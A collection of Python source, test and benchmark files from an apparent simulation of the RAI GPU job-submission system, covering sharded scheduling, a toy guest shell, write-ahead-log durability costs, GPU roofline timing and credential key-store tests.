        ["rate-limit rejections", stats["rate_limiter"]["rejected"]],
    ]
    counters = system.monitor.counters
    recovery = [
        ("dead letters (parked)", stats.get("dead_letters", 0)),
        ("dead letters (drained)", counters.get("dead_letters_drained")),
        ("storage retries", counters.get("storage_retries")),
        ("faults injected", counters.get("faults_injected")),
        ("duplicate records suppressed",
         counters.get("duplicate_records_suppressed")),
        ("jobs past deadline", counters.get("jobs_deadline_exceeded")),
    ]
    for label, value in recovery:
        if value:
            rows.append([label, int(value)])
    if sampler is not None:
        for signal in ("queue_depth", "workers_running", "jobs_active"):
            rows.append([f"{signal} (avg)", f"{sampler.average(signal):.2f}"])
            rows.append([f"{signal} (peak)", f"{sampler.peak(signal):.0f}"])
        sampler.notify_alerts()
    # Active alerts (one row per *incident*, however often this report
    # runs) — the stuck-sampler warning and every SLO burn land here.
    alerts = getattr(system, "alerts", None)
    if alerts is not None:
        for alert in alerts.active():
            rows.append([f"⚠ ALERT {alert.name}",
                         f"{alert.summary} "
                         f"(firing since t={alert.fired_at:.0f}s)"])
        resolved = alerts.total_resolved
        if resolved:
            rows.append(["alerts resolved", resolved])
    elif sampler is not None and sampler.is_stuck():
        # Bare harnesses without an AlertManager keep the legacy row.
        last = sampler.last_heartbeat_at \
            if sampler.last_heartbeat_at is not None \
            else sampler.started_at
        rows.append(["⚠ ALERT telemetry sampler stuck",
                     f"no heartbeat for "
                     f"{system.sim.now - last:.0f}s "
                     f"(interval {sampler.interval:.0f}s)"])
    return render_table(["metric", "value"], rows,
                        title="RAI deployment health")
