"""The sharded control plane wired into a full RaiSystem deployment."""

import pytest

from repro.core.cli import RaiCLI
from repro.core.config import SystemConfig
from repro.core.system import RaiSystem
from repro.shard import ShardMap

pytestmark = pytest.mark.shard

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}

# Probed against ShardMap(2, seed=0): three teams homed on partition 0,
# one on partition 1 (see test_shardmap stability — placement is stable).
P0_TEAMS = ["team00", "team01", "team03"]
P1_TEAM = "team02"


def _storm(system, teams, jobs_per_team=1):
    """Submit ``jobs_per_team`` from each team, rate-limit safe."""
    gap = system.config.rate_limit_seconds + 5.0

    def student(idx, team):
        client = system.new_client(team=team, username=f"{team}-user")
        client.stage_project(FILES)
        yield system.sim.timeout(0.5 * idx)
        for k in range(jobs_per_team):
            if k:
                yield system.sim.timeout(gap)
            result = yield from client.submit()
            results.append(result)

    results = []
    system.run_all([student(i, t) for i, t in enumerate(teams)])
    return results


@pytest.fixture
def sharded_system():
    return RaiSystem.standard(num_workers=4, seed=7,
                              config=SystemConfig(shards=4))


class TestWiring:
    def test_unsharded_system_has_no_plane(self, system):
        assert system.shards is None
        assert system.task_topic("anyteam") == "rai"
        assert system.scheduler is not None

    def test_sharded_system_builds_the_plane(self, sharded_system):
        plane = sharded_system.shards
        assert plane is not None
        assert plane.shard_map == ShardMap(4)
        # One independent scheduler per partition; no global scheduler.
        assert sharded_system.scheduler is None
        assert len([s for s in plane.schedulers if s is not None]) == 4
        assert len({id(s) for s in plane.schedulers}) == 4

    def test_workers_homed_round_robin(self, sharded_system):
        assert [w.partition for w in sharded_system.workers] == [0, 1, 2, 3]
        for worker in sharded_system.workers:
            assert worker.config.task_route == \
                sharded_system.shards.shard_map.route(worker.partition)

    def test_task_topic_routes_by_team_key(self, sharded_system):
        smap = sharded_system.shards.shard_map
        for team in ("alpha", "beta", "gamma"):
            assert sharded_system.task_topic(team) == \
                smap.topic(smap.partition(team))

    def test_submissions_collection_is_sharded(self, sharded_system):
        coll = sharded_system.db.collection("submissions")
        assert coll.__class__.__name__ == "ShardedCollection"
        assert coll.shard_map == sharded_system.shards.shard_map

    def test_config_validation(self):
        with pytest.raises(ValueError):
            SystemConfig(shards=0)
        with pytest.raises(ValueError):
            SystemConfig(shard_steal_threshold=0)
        with pytest.raises(ValueError):
            SystemConfig(shard_balance_interval_seconds=0.0)


class TestShardedSubmissions:
    def test_storm_completes_and_routes(self, sharded_system):
        system = sharded_system
        teams = [f"team{i:02d}" for i in range(8)]
        results = _storm(system, teams)
        assert len(results) == 8
        assert all(r.status.value == "succeeded" for r in results)
        assert system.queue_depth() == 0
        # Router counted every published task.
        assert sum(system.shards.router.routed) == 8

    def test_shard_route_events_match_the_map(self, sharded_system):
        system = sharded_system
        teams = [f"team{i:02d}" for i in range(6)]
        _storm(system, teams)
        smap = system.shards.shard_map
        routed = system.events.query(type="shard.route")
        assert len(routed) == 6
        for event in routed:
            team = event.fields["team"]
            assert event.fields["partition"] == smap.partition(team)
            assert event.fields["topic"] == smap.topic(
                smap.partition(team))

    def test_submission_records_land_on_team_partition(self, sharded_system):
        system = sharded_system
        teams = [f"team{i:02d}" for i in range(6)]
        _storm(system, teams)
        coll = system.db.collection("submissions")
        smap = system.shards.shard_map
        for team in teams:
            doc = coll.find_one({"team": team})
            assert doc is not None
            physical = coll.shards[smap.partition(team)]
            assert physical.find_one({"team": team}) is not None

    def test_completions_feed_the_partition_estimator(self, sharded_system):
        system = sharded_system
        team = "team00"
        _storm(system, [team])
        scheduler = system.shards.scheduler_for(team)
        assert scheduler.estimator.expected(team) != \
            scheduler.estimator.default_seconds

    def test_stats_and_gauges(self, sharded_system):
        system = sharded_system
        _storm(system, [f"team{i:02d}" for i in range(6)])
        stats = system.stats()
        shard_stats = stats["shards"]
        assert shard_stats["shard_map"] == {"n_partitions": 4, "seed": 0}
        assert len(shard_stats["partitions"]) == 4
        assert sum(p["dispatched"] for p in shard_stats["partitions"]) >= 6
        assert all(p["queue_depth"] == 0
                   for p in shard_stats["partitions"])
        # The per-partition gauges are registered and live.
        for p in range(4):
            depth = system.metrics.gauge("shard_queue_depth",
                                         shard=f"p{p}")
            assert depth.value == 0.0


class TestWorkStealing:
    def test_idle_partition_steals_from_deep_sibling(self):
        # Two partitions, one worker each.  The thief's home partition
        # gets exactly one job (so its executor is cycling, not parked);
        # three teams then storm the victim partition.  Once home is
        # dry the thief must claim from the victim's backlog.
        system = RaiSystem.standard(num_workers=2, seed=7,
                                    config=SystemConfig(shards=2))
        results = _storm(system, [P1_TEAM] + P0_TEAMS, jobs_per_team=3)
        assert all(r.status.value == "succeeded" for r in results)
        plane = system.shards
        assert plane.steals_in[1] > 0
        assert plane.steals_out[0] > 0
        steal_events = system.events.query(type="shard.steal")
        assert steal_events
        assert all(e.fields["mode"] == "pull" for e in steal_events)

    def test_balancer_feeds_parked_cold_partition(self):
        # Partition 1's worker parks before any job reaches its queue;
        # pull-stealing can never wake it.  The balancer migrates queued
        # work from the deep partition and the parked get fires.
        system = RaiSystem.standard(num_workers=2, seed=7,
                                    config=SystemConfig(shards=2))
        system.start_shard_balancer(interval=10.0)
        results = _storm(system, P0_TEAMS, jobs_per_team=3)
        assert all(r.status.value == "succeeded" for r in results)
        plane = system.shards
        assert plane.rebalanced_in[1] > 0
        modes = {e.fields["mode"]
                 for e in system.events.query(type="shard.steal")}
        assert "rebalance" in modes

    def test_balancer_is_work_conserving_below_threshold(self):
        # Fewer executors than partitions: the one worker is homed on
        # partition 0, but the team routes to partition 3.  The single
        # queued job is below the steal threshold — the balancer must
        # migrate it anyway (an idle executor plus any queued message
        # violates work conservation), or the deployment deadlocks.
        system = RaiSystem.standard(num_workers=1, seed=7,
                                    config=SystemConfig(shards=4))
        assert system.shards.shard_map.partition("ece408-t1") != 0
        system.start_shard_balancer(interval=5.0)
        results = _storm(system, ["ece408-t1"])
        assert [r.status.value for r in results] == ["succeeded"]
        assert system.shards.rebalanced_in[0] > 0

    def test_balancer_requires_sharding(self, system):
        with pytest.raises(RuntimeError):
            system.start_shard_balancer()


class TestShardsCli:
    def test_unsharded_message(self, system):
        client = system.new_client(team="cli-team")
        client.stage_project(FILES)
        out = RaiCLI(system, client).run_command("rai shards")
        assert "not sharded" in out

    def test_sharded_table(self, sharded_system):
        system = sharded_system
        _storm(system, [f"team{i:02d}" for i in range(6)])
        client = system.new_client(team="cli-team")
        client.stage_project(FILES)
        out = RaiCLI(system, client).run_command("rai shards")
        assert "4 partitions" in out
        for p in range(4):
            assert f"p{p}" in out or str(p) in out
        assert "steal" in out

    def test_shards_listed_in_help(self, system):
        client = system.new_client(team="cli-team")
        client.stage_project(FILES)
        out = RaiCLI(system, client).run_command("rai help")
        assert "shards" in out
