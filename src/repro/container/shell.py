"""The guest shell: what interprets each ``commands:`` line of a build file.

A deliberately small POSIX-flavoured subset, enough to run the paper's
Listings 1 and 2 and realistic variations of them:

- tokenisation with quoting (``shlex`` rules);
- ``&&`` / ``;`` sequencing within one line (``&&`` short-circuits);
- ``$VAR`` / ``${VAR}`` environment expansion;
- ``> file`` and ``>> file`` stdout redirection;
- leading ``VAR=value`` assignments;
- builtins ``cd`` and ``export``;
- program lookup: builtins → registered guest commands (absolute names
  like ``/usr/bin/time`` are resolved by basename) → executable files in
  the container filesystem whose content starts with ``#!rai-exec NAME``.
"""

from __future__ import annotations

import re
import shlex
from typing import List, Optional, Tuple

from repro.errors import CommandNotFound, GuestCommandError
from repro.vfs.path import join as path_join

_VAR_RE = re.compile(r"\$(\w+|\{\w+\})")
_ASSIGN_RE = re.compile(r"^(\w+)=(.*)$")


def expand_variables(token: str, env: dict) -> str:
    def repl(match):
        name = match.group(1).strip("{}")
        return str(env.get(name, ""))

    return _VAR_RE.sub(repl, token)


def split_sequence(line: str) -> List[Tuple[str, str]]:
    """Split a command line on ``&&`` and ``;`` (quote-aware).

    Returns ``[(connector, segment), ...]`` where the connector is how the
    segment chains onto the previous one (``""`` for the first).
    """
    segments: List[Tuple[str, str]] = []
    current: List[str] = []
    connector = ""
    i = 0
    in_single = in_double = False
    while i < len(line):
        ch = line[i]
        if ch == "'" and not in_double:
            in_single = not in_single
        elif ch == '"' and not in_single:
            in_double = not in_double
        if not in_single and not in_double:
            if line.startswith("&&", i):
                segments.append((connector, "".join(current).strip()))
                current = []
                connector = "&&"
                i += 2
                continue
            if ch == ";":
                segments.append((connector, "".join(current).strip()))
                current = []
                connector = ";"
                i += 1
                continue
        current.append(ch)
        i += 1
    segments.append((connector, "".join(current).strip()))
    return [(c, s) for c, s in segments if s]


class Shell:
    """Executes command lines inside one container."""

    def __init__(self, container):
        self.container = container

    def run_line(self, line: str) -> int:
        """Run one build-file line; returns the last exit code.

        ``&&`` stops the chain at the first failure; ``;`` does not.
        """
        exit_code = 0
        for connector, segment in split_sequence(line):
            if connector == "&&" and exit_code != 0:
                break
            exit_code = self._run_simple(segment)
        return exit_code

    # -- internals ----------------------------------------------------------

    def _run_simple(self, segment: str) -> int:
        ctx = self.container._context
        try:
            tokens = shlex.split(segment, posix=True)
        except ValueError as exc:
            ctx.write_err(f"sh: parse error: {exc}\n")
            return 2
        # Leading VAR=value assignments.
        while tokens and _ASSIGN_RE.match(tokens[0]) and \
                not tokens[0].startswith("="):
            match = _ASSIGN_RE.match(tokens[0])
            ctx.env[match.group(1)] = expand_variables(match.group(2), ctx.env)
            tokens = tokens[1:]
        if not tokens:
            return 0
        tokens = [expand_variables(t, ctx.env) for t in tokens]

        # Stdout redirection.
        redirect_path: Optional[str] = None
        redirect_append = False
        cleaned: List[str] = []
        i = 0
        while i < len(tokens):
            tok = tokens[i]
            if tok in (">", ">>"):
                if i + 1 >= len(tokens):
                    ctx.write_err("sh: redirection needs a target\n")
                    return 2
                redirect_path = tokens[i + 1]
                redirect_append = tok == ">>"
                i += 2
                continue
            if tok.startswith(">>"):
                redirect_path, redirect_append = tok[2:], True
                i += 1
                continue
            if tok.startswith(">") and len(tok) > 1:
                redirect_path, redirect_append = tok[1:], False
                i += 1
                continue
            cleaned.append(tok)
            i += 1
        tokens = cleaned
        if not tokens:
            return 0

        name, args = tokens[0], tokens[1:]

        # Builtins.
        if name == "cd":
            return self._builtin_cd(ctx, args)
        if name == "export":
            for arg in args:
                match = _ASSIGN_RE.match(arg)
                if match:
                    ctx.env[match.group(1)] = match.group(2)
            return 0
        if name == "true":
            return 0
        if name == "false":
            return 1

        capture = None
        if redirect_path is not None:
            capture = ctx.push_stdout_capture()
        try:
            code = self._dispatch(ctx, name, args)
        finally:
            if capture is not None:
                data = ctx.pop_stdout_capture()
                target = path_join(ctx.cwd, redirect_path)
                if redirect_append:
                    ctx.fs.append_file(target, data)
                else:
                    ctx.fs.write_file(target, data)
        return code

    def _builtin_cd(self, ctx, args) -> int:
        target = args[0] if args else "/"
        path = path_join(ctx.cwd, target)
        if not ctx.fs.isdir(path):
            ctx.write_err(f"cd: no such directory: {target}\n")
            return 1
        ctx.cwd = path
        return 0

    def _dispatch(self, ctx, name: str, args: List[str]) -> int:
        from repro.container.commands import lookup_command

        base = name.rsplit("/", 1)[-1]
        command = lookup_command(base)
        if command is not None and not _looks_like_path_exec(ctx, name):
            return command.run(ctx, args)

        # Executable file in the container ("./ece408").
        path = path_join(ctx.cwd, name)
        if ctx.fs.isfile(path):
            return self._exec_file(ctx, path, args)
        if command is not None:
            return command.run(ctx, args)
        ctx.write_err(f"sh: command not found: {name}\n")
        return 127

    def _exec_file(self, ctx, path: str, args: List[str]) -> int:
        from repro.container.commands import lookup_program

        data = ctx.fs.read_file(path)
        if not data.startswith(b"#!rai-exec "):
            ctx.write_err(f"sh: {path}: cannot execute binary file\n")
            return 126
        header, _, payload = data.partition(b"\n")
        program_name = header[len(b"#!rai-exec "):].decode("ascii").strip()
        program = lookup_program(program_name)
        if program is None:
            ctx.write_err(f"sh: {path}: unknown program {program_name!r}\n")
            return 126
        import json

        config = json.loads(payload.decode("utf-8") or "{}")
        return program.run(ctx, args, config)


def _looks_like_path_exec(ctx, name: str) -> bool:
    """``./foo`` or absolute paths pointing at real files beat builtins."""
    if not (name.startswith("./") or name.startswith("/")):
        return False
    return ctx.fs.isfile(path_join(ctx.cwd, name))
