"""Durability cost — steady-state WAL overhead and recovery time.

Not a paper figure: prices the durable control plane (ISSUE 6).  Two
questions decide whether journaling can stay on all semester:

1. **WAL overhead** — wall-clock cost of the resubmission storm with the
   write-ahead log attached vs. the memory-only baseline, at the
   hot-path bench's scales.  Acceptance floor: under 10 % at the largest
   scale (averaged over repeats; the absolute runs are sub-second).
2. **Recovery time** — cold-start ``RaiSystem.restore`` latency as the
   replayed state grows: snapshot-only (compacted) vs. WAL-suffix replay
   at three scales.

Run: ``pytest benchmarks/bench_durability.py -s``
Writes ``BENCH_durability.json`` at the repository root.
"""

import json
import os
import shutil
import tempfile
import time

from benchmarks.conftest import print_banner
from repro.core.system import RaiSystem
from repro.workload.hotpath import DEFAULT_SCALES, run_hotpath

_OUT_PATH = os.path.join(os.path.dirname(os.path.dirname(__file__)),
                         "BENCH_durability.json")

#: Wall-clock repeats per operating point (sub-second runs are noisy).
_REPEATS = 3


def _overhead_point(scale) -> dict:
    """One scale's baseline-vs-journaled wall-clock comparison."""
    base_s = 0.0
    wal_s = 0.0
    wal_stats = None
    for rep in range(_REPEATS):
        base_s += run_hotpath(scale, seed=408 + rep)["wall_clock_s"]
        workdir = tempfile.mkdtemp(prefix="rai-dur-bench-")
        try:
            metrics = run_hotpath(scale, seed=408 + rep,
                                  durability_path=os.path.join(workdir, "d"))
            wal_s += metrics["wall_clock_s"]
            wal_stats = metrics["durability"]
        finally:
            shutil.rmtree(workdir, ignore_errors=True)
    overhead = (wal_s - base_s) / base_s if base_s else 0.0
    return {
        "scale": scale.name,
        "baseline_wall_s": round(base_s / _REPEATS, 4),
        "journaled_wall_s": round(wal_s / _REPEATS, 4),
        "overhead_pct": round(overhead * 100.0, 2),
        "wal_records": wal_stats["records_logged"] if wal_stats else 0,
        "wal_bytes": wal_stats["wal_bytes"] if wal_stats else 0,
    }


def _recovery_point(scale) -> dict:
    """Recovery time at one scale, compacted vs. WAL-heavy."""
    out = {"scale": scale.name}
    for mode in ("snapshot", "wal"):
        workdir = tempfile.mkdtemp(prefix="rai-dur-bench-")
        try:
            path = os.path.join(workdir, "d")
            run_hotpath(scale, seed=408, durability_path=path)
            # The run leaves wal.log with every post-attach mutation; a
            # compaction folds it into snapshot.json for the other mode.
            if mode == "snapshot":
                replayed = RaiSystem.restore(path, num_workers=0)
                replayed.checkpoint()
                replayed.crash_stop()
            started = time.perf_counter()
            restored = RaiSystem.restore(path, num_workers=0)
            elapsed = time.perf_counter() - started
            replay = restored.events.query(type="durability.replay")[-1]
            out[mode] = {
                "restore_s": round(elapsed, 4),
                "replayed_records": replay.fields["replayed"],
                "submissions": len(restored.db.collection("submissions")),
                "snapshot_bytes": os.path.getsize(
                    os.path.join(path, "snapshot.json")),
            }
        finally:
            shutil.rmtree(workdir, ignore_errors=True)
    return out


def test_durability_costs(benchmark):
    def run_bench():
        return {
            "overhead": [_overhead_point(s) for s in DEFAULT_SCALES],
            "recovery": [_recovery_point(s) for s in DEFAULT_SCALES],
        }

    results = benchmark.pedantic(run_bench, rounds=1, iterations=1)

    print_banner("Durability — WAL overhead and recovery time")
    print(f"{'scale':<10}{'base s':>9}{'wal s':>9}{'overhead':>10}"
          f"{'records':>9}{'wal KiB':>9}")
    for point in results["overhead"]:
        print(f"{point['scale']:<10}{point['baseline_wall_s']:>9.3f}"
              f"{point['journaled_wall_s']:>9.3f}"
              f"{point['overhead_pct']:>9.1f}%"
              f"{point['wal_records']:>9}"
              f"{point['wal_bytes'] / 1024:>9.1f}")
    print()
    print(f"{'scale':<10}{'restore(snap) s':>16}{'restore(wal) s':>16}"
          f"{'wal records':>12}{'snap KiB':>10}")
    for point in results["recovery"]:
        print(f"{point['scale']:<10}"
              f"{point['snapshot']['restore_s']:>16.4f}"
              f"{point['wal']['restore_s']:>16.4f}"
              f"{point['wal']['replayed_records']:>12}"
              f"{point['wal']['snapshot_bytes'] / 1024:>10.1f}")

    # --- acceptance floors (ISSUE 6) -------------------------------------
    largest = results["overhead"][-1]
    assert largest["overhead_pct"] < 10.0, \
        f"WAL overhead {largest['overhead_pct']}% breaches the 10% budget"
    # Journaling actually happened (the comparison is not vacuous).
    assert largest["wal_records"] > 100
    for point in results["recovery"]:
        # Both restore modes land the same durable state.
        assert point["snapshot"]["submissions"] == \
            point["wal"]["submissions"]
        # A compacted restore replays (almost) nothing.
        assert point["snapshot"]["replayed_records"] == 0
        assert point["wal"]["replayed_records"] > 0

    payload = {
        "bench": "durability",
        "source": "benchmarks/bench_durability.py",
        "repeats": _REPEATS,
        **results,
    }
    with open(_OUT_PATH, "w") as fh:
        json.dump(payload, fh, indent=1)
        fh.write("\n")
    print(f"\nwrote {_OUT_PATH}")
