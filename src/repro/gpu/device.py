"""Device catalogue and the roofline timing primitive.

Specifications are the published numbers for the boards the course used:
the GRID K520 / Tesla K40-class parts in AWS G2 instances and the Tesla
K80 in P2 instances (paper §VII, "Resource Usage").  Absolute accuracy is
not the goal — relative capability and the compute-vs-bandwidth crossover
are what shape the reproduced results.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict


@dataclass(frozen=True)
class GPUDevice:
    """An accelerator described by its roofline parameters."""

    name: str
    sm_count: int
    clock_ghz: float
    peak_gflops_fp32: float      # peak single-precision throughput
    mem_bandwidth_gbs: float     # peak DRAM bandwidth, GB/s
    mem_gb: float                # device memory capacity
    kernel_launch_us: float = 5.0  # fixed per-launch overhead

    def time_for(self, flops: float, bytes_moved: float,
                 compute_efficiency: float = 1.0,
                 bandwidth_efficiency: float = 1.0) -> float:
        """Roofline kernel time in seconds.

        A kernel is limited by whichever of compute or memory traffic takes
        longer at the achieved (efficiency-scaled) rates, plus launch
        overhead.
        """
        compute_efficiency = max(1e-4, min(1.0, compute_efficiency))
        bandwidth_efficiency = max(1e-4, min(1.0, bandwidth_efficiency))
        t_compute = flops / (self.peak_gflops_fp32 * 1e9 * compute_efficiency)
        t_memory = bytes_moved / (self.mem_bandwidth_gbs * 1e9 *
                                  bandwidth_efficiency)
        return max(t_compute, t_memory) + self.kernel_launch_us * 1e-6

    @property
    def arithmetic_intensity_knee(self) -> float:
        """FLOP/byte at which the roofline turns over."""
        return self.peak_gflops_fp32 / self.mem_bandwidth_gbs


@dataclass(frozen=True)
class CPUDevice:
    """A host CPU core for the serial baseline."""

    name: str
    clock_ghz: float
    flops_per_cycle: float = 1.0   # scalar code, no SIMD, no threading
    mem_bandwidth_gbs: float = 10.0

    @property
    def peak_gflops(self) -> float:
        return self.clock_ghz * self.flops_per_cycle

    def time_for(self, flops: float, bytes_moved: float = 0.0,
                 efficiency: float = 0.25) -> float:
        """Serial execution time; low default efficiency models an
        unoptimised scalar loop nest."""
        efficiency = max(1e-4, min(1.0, efficiency))
        t_compute = flops / (self.peak_gflops * 1e9 * efficiency)
        t_memory = bytes_moved / (self.mem_bandwidth_gbs * 1e9)
        return max(t_compute, t_memory)


#: Boards and hosts the reproduction knows about.
DEVICE_CATALOG: Dict[str, object] = {
    # AWS G2-class GPU (the "less powerful" early-project boards, §VII).
    "K40": GPUDevice(name="Tesla K40", sm_count=15, clock_ghz=0.745,
                     peak_gflops_fp32=4290.0, mem_bandwidth_gbs=288.0,
                     mem_gb=12.0),
    # AWS P2 GPU (one logical GPU of the dual-die K80).
    "K80": GPUDevice(name="Tesla K80 (one die)", sm_count=13,
                     clock_ghz=0.875, peak_gflops_fp32=4368.0,
                     mem_bandwidth_gbs=240.0, mem_gb=12.0),
    # Host CPU used for the serial baseline.
    "XEON": CPUDevice(name="Xeon E5-2670", clock_ghz=2.6),
}


def get_device(name: str):
    try:
        return DEVICE_CATALOG[name]
    except KeyError:
        raise KeyError(
            f"unknown device {name!r}; known: {sorted(DEVICE_CATALOG)}"
        ) from None
