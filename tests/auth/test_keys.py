"""Unit tests for credentials and the key store."""

import numpy as np
import pytest

from repro.auth import KeyStore, generate_key
from repro.errors import InvalidCredentials


class TestGenerateKey:
    def test_length_and_alphabet(self):
        key = generate_key(np.random.default_rng(0))
        assert len(key) == 26
        assert key.isalnum()

    def test_deterministic_under_seed(self):
        a = generate_key(np.random.default_rng(5))
        b = generate_key(np.random.default_rng(5))
        assert a == b


class TestKeyStore:
    def test_issue_and_verify(self):
        store = KeyStore()
        cred = store.issue("student001", team="t1")
        assert store.verify_pair(cred.access_key, cred.secret_key) is cred
        assert cred.team == "t1"

    def test_wrong_secret_rejected(self):
        store = KeyStore()
        cred = store.issue("s")
        with pytest.raises(InvalidCredentials):
            store.verify_pair(cred.access_key, "wrong")

    def test_unknown_access_key_rejected(self):
        store = KeyStore()
        with pytest.raises(InvalidCredentials):
            store.lookup("nope")

    def test_revocation(self):
        store = KeyStore()
        cred = store.issue("s")
        assert store.revoke("s")
        with pytest.raises(InvalidCredentials):
            store.lookup(cred.access_key)
        assert not store.revoke("ghost")

    def test_reissue_revokes_old(self):
        """Lost-key recovery: new keys invalidate the old pair."""
        store = KeyStore()
        old = store.issue("s")
        new = store.issue("s")
        assert old.access_key != new.access_key
        with pytest.raises(InvalidCredentials):
            store.lookup(old.access_key)
        store.verify_pair(new.access_key, new.secret_key)

    def test_unique_keys_across_users(self):
        store = KeyStore()
        creds = [store.issue(f"s{i}") for i in range(50)]
        access = {c.access_key for c in creds}
        assert len(access) == 50

    def test_profile_lines_format(self):
        store = KeyStore()
        cred = store.issue("alice")
        lines = cred.profile_lines()
        assert "RAI_USER_NAME='alice'" in lines
        assert f"RAI_ACCESS_KEY='{cred.access_key}'" in lines
        assert f"RAI_SECRET_KEY='{cred.secret_key}'" in lines

    def test_len_counts_users(self):
        store = KeyStore()
        store.issue("a")
        store.issue("b")
        store.issue("a")   # reissue, same user
        assert len(store) == 2
