"""JSON / JSONL exporters for traces and metrics.

Everything in ``repro.obs`` is JSON-trivial by construction (string ids,
floats, flat dicts), so export is a straight dump — the operator can
feed the output to jq, a trace viewer, or the analysis notebooks.
"""

from __future__ import annotations

import json
import math
from typing import List, Optional, Union

from repro.obs.metrics import MetricsRegistry
from repro.obs.span import Span
from repro.obs.store import Trace, TraceStore


def _scrub(value):
    """JSON has no NaN/inf; exporters map them to None (recursively)."""
    if isinstance(value, float) and not math.isfinite(value):
        return None
    if isinstance(value, dict):
        return {k: _scrub(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_scrub(v) for v in value]
    return value


def span_to_dict(span: Span) -> dict:
    return span.to_dict()


def trace_to_dict(trace: Trace) -> dict:
    return {
        "trace_id": trace.trace_id,
        "job_ids": list(trace.job_ids),
        "start": trace.start_time(),
        "end": trace.end_time(),
        "open_spans": trace.open_spans,
        "spans": [s.to_dict() for s in trace.spans],
    }


def export_trace_json(trace: Trace, path: Optional[str] = None,
                      indent: int = 2) -> str:
    """One trace as a JSON document (optionally written to ``path``)."""
    text = json.dumps(_scrub(trace_to_dict(trace)), indent=indent)
    if path is not None:
        with open(path, "w") as fh:
            fh.write(text + "\n")
    return text


def export_spans_jsonl(source: Union[TraceStore, Trace, List[Span]],
                       path: Optional[str] = None) -> str:
    """Spans as JSONL, one span per line (stream-friendly).

    Accepts a whole store, one trace, or a plain span list.
    """
    if isinstance(source, TraceStore):
        spans = [s for t in source.traces() for s in t.spans]
    elif isinstance(source, Trace):
        spans = list(source.spans)
    else:
        spans = list(source)
    lines = [json.dumps(_scrub(s.to_dict())) for s in spans]
    text = "\n".join(lines) + ("\n" if lines else "")
    if path is not None:
        with open(path, "w") as fh:
            fh.write(text)
    return text


def export_metrics_json(registry: MetricsRegistry,
                        path: Optional[str] = None, indent: int = 2) -> str:
    """The registry snapshot as a JSON document."""
    text = json.dumps(_scrub(registry.snapshot()), indent=indent)
    if path is not None:
        with open(path, "w") as fh:
            fh.write(text + "\n")
    return text
