"""Mapping CNN work onto simulated device time.

A student submission is characterised by an **optimisation quality** in
``[0, 1]``: 0 is the untouched serial baseline, 1 is a fully tuned GPU
kernel.  Quality maps to roofline efficiencies through a staged model of
the optimisations the course teaches (global-memory coalescing → shared
memory tiling → register blocking/unrolling), producing the 3-4 orders of
magnitude spread between the ~30-minute baseline and the sub-second top
teams seen in Figure 2.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from repro.gpu.cnn import Network, build_ece408_network
from repro.gpu.device import CPUDevice, GPUDevice

#: The course's full evaluation dataset size (Listing 2 runs with 10000).
FULL_DATASET_SIZE = 10000
#: The small development dataset (test10.hdf5).
SMALL_DATASET_SIZE = 10

#: Fixed job overheads: process/toolkit startup, reading the HDF5 dataset
#: from disk, and staging it across PCIe.  These set the ~0.2 s floor under
#: which no submission can go — which is exactly where the leading edge of
#: Figure 2's histogram sits.
STARTUP_SECONDS = 0.05
DISK_BANDWIDTH_BPS = 200e6
PCIE_BANDWIDTH_BPS = 8e9
IMAGE_BYTES = 28 * 28 * 4

#: Efficiency of the provided serial baseline on the host CPU: scalar,
#: cache-hostile loop nest.  Calibrated so the full dataset takes ~30
#: simulated minutes, the paper's stated baseline runtime (§VI).
BASELINE_CPU_EFFICIENCY = 0.015

#: Amdahl residual: fraction of baseline work still serial at quality q is
#: ``SERIAL_COEF * (1-q)**4`` — unported code paths, host-side layout
#: shuffles, per-image Python-side loops.  This term, not raw kernel speed,
#: is what stretches weak submissions to the 2-minute tail of Figure 2.
SERIAL_COEF = 0.07


def job_overhead(batch: int, on_gpu: bool = True) -> float:
    """Startup + dataset-read (+ PCIe staging) seconds for a run."""
    data = batch * IMAGE_BYTES
    t = STARTUP_SECONDS + data / DISK_BANDWIDTH_BPS
    if on_gpu:
        t += data / PCIE_BANDWIDTH_BPS
    return t


@dataclass(frozen=True)
class KernelProfile:
    """Achieved efficiencies for one submission's kernels."""

    compute_efficiency: float
    bandwidth_efficiency: float
    launch_batching: float  # fraction of launches fused/amortised, [0,1)

    @staticmethod
    def from_quality(quality: float) -> "KernelProfile":
        """Map an optimisation-quality scalar to roofline efficiencies.

        The curve is deliberately super-linear: early optimisations
        (coalescing) buy bandwidth, late ones (tiling, unrolling) buy
        compute, and the last decile is where the top teams separate.
        """
        q = max(0.0, min(1.0, quality))
        bandwidth = 0.02 + 0.78 * q ** 1.5
        compute = 0.005 + 0.695 * q ** 2.5
        batching = 0.9 * q
        return KernelProfile(compute_efficiency=compute,
                             bandwidth_efficiency=bandwidth,
                             launch_batching=batching)


def estimate_kernel_time(device: GPUDevice, flops: float, bytes_moved: float,
                         profile: KernelProfile) -> float:
    """Simulated seconds for one kernel on ``device`` at this profile."""
    return device.time_for(flops, bytes_moved,
                           compute_efficiency=profile.compute_efficiency,
                           bandwidth_efficiency=profile.bandwidth_efficiency)


def cnn_job_time(device, batch: int, quality: float = None,
                 network: Network = None, mini_batch: int = 256) -> float:
    """Total simulated runtime for inferring ``batch`` images.

    For a :class:`GPUDevice`, ``quality`` shapes efficiency and how many
    kernel launches the implementation needs; for a :class:`CPUDevice`
    (the serial baseline) quality is ignored and a fixed low scalar
    efficiency applies.
    """
    net = network or build_ece408_network()
    if isinstance(device, CPUDevice):
        compute = device.time_for(net.total_flops(batch),
                                  net.total_bytes(batch),
                                  efficiency=BASELINE_CPU_EFFICIENCY)
        return job_overhead(batch, on_gpu=False) + compute
    q = max(0.0, min(1.0, quality if quality is not None else 0.5))
    profile = KernelProfile.from_quality(q)
    # Work is issued mini-batch by mini-batch; better implementations fuse
    # layers and stream batches, reducing per-launch overhead.
    n_batches = max(1, -(-batch // mini_batch))
    costs = net.layer_costs(batch)
    kernels = 0.0
    for cost in costs:
        if cost["flops"] == 0 and cost["bytes"] == 0:
            continue
        t = estimate_kernel_time(device, cost["flops"], cost["bytes"], profile)
        # Launch overhead repeats per mini-batch, discounted by fusion.
        extra_launches = (n_batches - 1) * (1.0 - profile.launch_batching)
        kernels += t + extra_launches * device.kernel_launch_us * 1e-6
    # Amdahl residual: code paths the team has not (yet) moved to the GPU
    # still run at baseline speed.
    baseline_cpu = CPUDevice(name="host", clock_ghz=2.6)
